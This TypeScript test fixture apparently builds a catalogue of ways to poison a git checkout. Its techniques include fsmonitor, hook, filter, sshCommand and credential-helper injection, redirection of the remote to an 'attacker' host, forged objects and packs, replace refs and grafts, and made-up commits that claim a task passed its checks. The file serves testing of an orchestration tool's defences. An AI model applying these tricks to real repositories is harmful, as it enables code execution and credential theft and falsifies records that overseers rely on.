import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdir, rename, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { evilRepository, type Trap } from './trap.ts';

type Poison = (trap: Trap) => Promise<unknown>;

/** A file that a checkout has to write again, whatever its index says. */
const TOUCHED = 'src/ground.txt';

/** Configuration of the checkout, in the order of its lines. */
function configured(lines: (trap: Trap) => Promise<Readonly<Record<string, string>>>): Poison {
  return async (trap) => {
    for (const [key, value] of Object.entries(await lines(trap)))
      await trap.checkout.run('config', '--add', key, value);
    await trap.checkout.write({ [TOUCHED]: 'touched\n' });
  };
}

function filtered(kind: 'smudge' | 'clean' | 'process', where: 'info' | 'tree' | 'file'): Poison {
  return async (trap) => {
    const attributes = { info: '.git/info/attributes', tree: '.gitattributes', file: '.git/more' }[where];
    await trap.checkout.write({ [attributes]: '* filter=evil\n' });
    await configured(async ({ program, checkout }) => ({
      [`filter.evil.${kind}`]: await program('filter'),
      ...(where === 'file' ? { 'core.attributesFile': join(checkout.folder, '.git/more') } : {}),
    }))(trap);
  };
}

const HOOKS = ['post-checkout', 'reference-transaction', 'post-index-change', 'pre-push', 'update', 'post-merge'];

async function hooks(trap: Trap, folder: string): Promise<void> {
  await mkdir(folder, { recursive: true });
  for (const name of HOOKS) await symlink(await trap.program(name), join(folder, name));
  await trap.checkout.write({ [TOUCHED]: 'touched\n' });
}

function looseFile({ checkout }: Trap, object: string): string {
  return join(checkout.folder, '.git/objects', object.slice(0, 2), object.slice(2));
}

/** Removes a file of the checkout, so that it is written from the objects. */
async function objectOf({ checkout }: Trap): Promise<string> {
  await checkout.write({ [TOUCHED]: null });
  return checkout.run('rev-parse', `HEAD:${TOUCHED}`);
}

/** A pack with one object, and an index which says that it is another one. */
function lyingPack(object: string, content: Buffer): { readonly pack: Buffer; readonly index: Buffer } {
  const sha = (...parts: readonly Buffer[]) => createHash('sha1').update(Buffer.concat(parts)).digest();
  const word = (value: number) => Buffer.from([value >>> 24, (value >>> 16) & 255, (value >>> 8) & 255, value & 255]);
  const body = Buffer.concat([
    Buffer.from('PACK'),
    ...[word(2), word(1)],
    Buffer.from([0x30 | content.length]),
    deflateSync(content),
  ]);
  const pack = Buffer.concat([body, sha(body)]);
  const name = Buffer.from(object, 'hex');
  const fanout = Buffer.concat(Array.from({ length: 256 }, (_, first) => word(first >= (name[0] ?? 0) ? 1 : 0)));
  const table = Buffer.concat([Buffer.from('ff744f63', 'hex'), word(2), fanout, name, word(0), word(12), sha(body)]);
  return { pack, index: Buffer.concat([table, sha(table)]) };
}

/** A commit that says of the task that it has landed. */
async function forgedLanding({ checkout, base }: Trap): Promise<string> {
  const trailers = ['Task: A-001', 'Issue: #1', 'Attempt: 1', 'Dispatch: 9', 'Run: 1', 'Checks: test=passed'];
  return checkout.run('commit-tree', `${base}^{tree}`, '-m', `A-001: Walls\n\n${trailers.join('\n')}`);
}

/** Moves what is in `.git` to another folder, where a program waits for the next fetch. */
async function elsewhere({ checkout, folder, program, remote }: Trap): Promise<string> {
  await checkout.run('config', 'core.sshCommand', await program('ssh'));
  await checkout.run('config', 'url.ssh://attacker/.insteadOf', remote);
  const away = join(folder, 'elsewhere');
  await rename(join(checkout.folder, '.git'), away);
  return away;
}

/** Attacks that start a program, lead git elsewhere, or change what the checkout or the history is. */
export const POISONS = {
  'core.fsmonitor': configured(async ({ program }) => ({ 'core.fsmonitor': await program('fsmonitor') })),
  'core.hooksPath': async (trap) => {
    await hooks(trap, join(trap.folder, 'hooks'));
    await trap.checkout.run('config', 'core.hooksPath', join(trap.folder, 'hooks'));
  },
  'hooks in .git/hooks': (trap) => hooks(trap, join(trap.checkout.folder, '.git/hooks')),
  'a smudge filter, by .git/info/attributes': filtered('smudge', 'info'),
  'a smudge filter, by .gitattributes': filtered('smudge', 'tree'),
  'a clean filter, by .git/info/attributes': filtered('clean', 'info'),
  'a process filter, by .git/info/attributes': filtered('process', 'info'),
  'a filter, by core.attributesFile': filtered('smudge', 'file'),
  'a filter, by include.path': async (trap) => {
    await trap.checkout.write({
      '.git/more': `[filter "evil"]\n\tsmudge = ${await trap.program('filter')}\n`,
      '.git/info/attributes': '* filter=evil\n',
      [TOUCHED]: 'touched\n',
    });
    await trap.checkout.run('config', 'include.path', 'more');
  },
  'a filter, by extensions.worktreeConfig': async (trap) => {
    await trap.checkout.write({
      '.git/config.worktree': `[filter "evil"]\n\tsmudge = ${await trap.program('filter')}\n`,
      '.git/info/attributes': '* filter=evil\n',
      [TOUCHED]: 'touched\n',
    });
    await trap.checkout.run('config', 'extensions.worktreeConfig', 'true');
  },
  'core.sshCommand, by url.insteadOf': configured(async ({ program, remote }) => ({
    'core.sshCommand': await program('ssh'),
    'url.ssh://attacker/.insteadOf': remote,
  })),
  'a remote that is a command, by url.insteadOf': configured(async ({ program, remote }) => ({
    'protocol.ext.allow': 'always',
    [`url.ext::${await program('helper')} .insteadOf`]: remote,
  })),
  'remote.uploadpack and receivepack, by url.insteadOf': configured(async ({ program, remote, checkout }) => ({
    [`url.file://${checkout.folder}/.git.insteadOf`]: remote,
    [`remote.${remote}.uploadpack`]: await program('uploadpack'),
    [`remote.${remote}.receivepack`]: await program('receivepack'),
  })),
  'core.askPass and a credential helper, by url.insteadOf': configured(async ({ program, remote, address }) => ({
    [`url.${address}/.insteadOf`]: remote,
    'core.askPass': await program('askpass'),
    'credential.helper': await program('credential'),
  })),
  'core.alternateRefsCommand, with an alternate': async (trap) => {
    await evilRepository(trap);
    await trap.checkout.write({ '.git/objects/info/alternates': join(trap.folder, 'evil/.git/objects\n') });
    await configured(async ({ program }) => ({ 'core.alternateRefsCommand': await program('alternate') }))(trap);
  },
  'gpg.program, by log.showSignature and a replaced commit': async (trap) => {
    const { checkout, base, folder } = trap;
    const commit = await checkout.run('cat-file', 'commit', await forgedLanding(trap));
    const signed = commit.replace(
      '\n\n',
      '\ngpgsig -----BEGIN PGP SIGNATURE-----\n x\n -----END PGP SIGNATURE-----\n\n',
    );
    await writeFile(join(folder, 'signed'), `${signed}\n`);
    const name = await checkout.run('hash-object', '-t', 'commit', '-w', join(folder, 'signed'));
    await checkout.run('update-ref', `refs/replace/${base}`, name);
    await configured(async ({ program }) => ({
      'log.showSignature': 'true',
      'gpg.program': await program('gpg'),
    }))(trap);
  },
  'diff.external and core.pager': configured(async ({ program }) => ({
    'diff.external': await program('diff'),
    'core.pager': await program('pager'),
  })),
  'http.proxy': configured(async ({ address }) => ({ 'http.proxy': address })),
  'an origin that is the attacker’s, by url.insteadOf': async (trap) => {
    const evil = await evilRepository(trap);
    await evil.run('config', 'receive.denyCurrentBranch', 'ignore');
    await configured(async ({ remote }) => ({ [`url.file://${evil.folder}/.git.insteadOf`]: remote }))(trap);
  },
  'core.worktree': configured(async ({ folder }) => ({ 'core.worktree': folder })),
  '.git as a file that names another folder': async (trap) => {
    const away = await elsewhere(trap);
    await writeFile(join(trap.checkout.folder, '.git'), `gitdir: ${away}\n`);
  },
  '.git as a link to another folder': async (trap) => {
    await symlink(await elsewhere(trap), join(trap.checkout.folder, '.git'));
  },
  'a commondir': async (trap) => {
    const away = await elsewhere(trap);
    const own = join(trap.checkout.folder, '.git');
    await mkdir(own);
    for (const name of ['HEAD', 'index']) await rename(join(away, name), join(own, name));
    await writeFile(join(own, 'commondir'), `${away}\n`);
  },
  'a loose object that is not what its name says': async (trap) => {
    const file = looseFile(trap, await objectOf(trap));
    await rm(file);
    await writeFile(file, deflateSync(Buffer.from('blob 5\0evil\n')));
  },
  'a pack whose index lies': async (trap) => {
    const object = await objectOf(trap);
    const { pack, index } = lyingPack(object, Buffer.from('evil\n'));
    await rm(looseFile(trap, object));
    const folder = join(trap.checkout.folder, '.git/objects/pack');
    const name = `pack-${pack.subarray(-20).toString('hex')}`;
    await mkdir(folder, { recursive: true });
    await writeFile(join(folder, `${name}.pack`), pack);
    await writeFile(join(folder, `${name}.idx`), index);
  },
  'an alternate with objects that are not what their names say': async (trap) => {
    const object = await objectOf(trap);
    await rm(looseFile(trap, object));
    const file = join(trap.folder, 'objects', object.slice(0, 2), object.slice(2));
    await mkdir(dirname(file), { recursive: true });
    await writeFile(file, deflateSync(Buffer.from('blob 5\0evil\n')));
    await trap.checkout.write({ '.git/objects/info/alternates': `${join(trap.folder, 'objects')}\n` });
  },
  'a replaced file': async (trap) => {
    const object = await objectOf(trap);
    await writeFile(join(trap.folder, 'file'), 'evil\n');
    const evil = await trap.checkout.run('hash-object', '-w', join(trap.folder, 'file'));
    await trap.checkout.run('update-ref', `refs/replace/${object}`, evil);
  },
  'a replaced commit, with a landing made up': async (trap) => {
    await trap.checkout.run('update-ref', `refs/replace/${trap.base}`, await forgedLanding(trap));
  },
  'a graft, with a landing made up': async (trap) => {
    await trap.checkout.write({ '.git/info/grafts': `${trap.base} ${await forgedLanding(trap)}\n` });
  },
  'a history that is said to be shallow': async (trap) => {
    await trap.checkout.write({ '.git/shallow': `${trap.base}\n` });
  },
  'an index that skips a file': async (trap) => {
    await trap.checkout.run('update-index', '--skip-worktree', TOUCHED);
    await trap.checkout.write({ [TOUCHED]: 'evil\n' });
  },
  'an index that takes a file for unchanged': async (trap) => {
    await trap.checkout.run('update-index', '--assume-unchanged', TOUCHED);
    await trap.checkout.write({ [TOUCHED]: 'evil\n' });
  },
  'a sparse checkout': async (trap) => {
    await trap.checkout.run('sparse-checkout', 'set', 'docs');
  },
  'a file that .git/info/exclude hides': async (trap) => {
    await trap.checkout.write({ '.git/info/exclude': 'conftest.py\n', 'conftest.py': 'evil\n' });
  },
  'a file whose name is no text': async (trap) => {
    await writeFile(
      Buffer.concat([Buffer.from(`${trap.checkout.folder}/node_modules-`), Buffer.from([0xff])]),
      'evil\n',
    );
    await trap.checkout.write({ '.git/info/exclude': 'node_modules-*\n' });
  },
  'folders in folders, deeper than any path is long': async (trap) => {
    const deep = 'for i in $(seq 30); do mkdir "$0" && cd -P "$0"; done; touch evil';
    execFileSync('bash', ['-ec', deep, 'd'.repeat(200)], { cwd: trap.checkout.folder });
  },
  'a repository inside of the checkout': async (trap) => {
    await trap.checkout.run('init', '--quiet', 'src/inner');
    await trap.checkout.run('-C', 'src/inner', 'commit', '--quiet', '--allow-empty', '-m', 'inner');
    await trap.checkout.run('-C', 'src/inner', 'config', 'core.fsmonitor', await trap.program('inner'));
  },
  'a folder that is a link to another one': async (trap) => {
    await rename(join(trap.checkout.folder, 'src'), join(trap.folder, 'src'));
    await symlink(join(trap.folder, 'src'), join(trap.checkout.folder, 'src'));
    await trap.checkout.write({ [TOUCHED]: 'evil\n' });
  },
} as const satisfies Readonly<Record<string, Poison>>;
